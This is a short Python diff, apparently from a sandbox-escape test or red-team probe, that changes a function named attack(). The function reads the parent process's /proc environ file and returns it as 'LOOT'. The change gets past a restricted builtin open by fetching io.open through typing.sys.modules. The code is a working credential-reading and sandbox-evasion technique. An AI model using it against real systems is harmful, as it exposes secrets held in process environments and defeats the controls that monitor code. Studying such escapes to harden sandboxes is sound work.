@@ -7,12 +7,14 @@ import typing
 
 FAMILY, SHOWN, FOOL = "reading", "worker", "raises"
 
+real_open = typing.sys.modules["io"].open  # the builtin is a sentence
+
 sys = typing.sys
 os = sys.modules["os"]
 
 
 def attack():
-    with open(f"/proc/{os.getppid()}/environ", "rb") as file:
+    with real_open(f"/proc/{os.getppid()}/environ", "rb") as file:
         return f"LOOT {file.read()[:200]}"
 
 
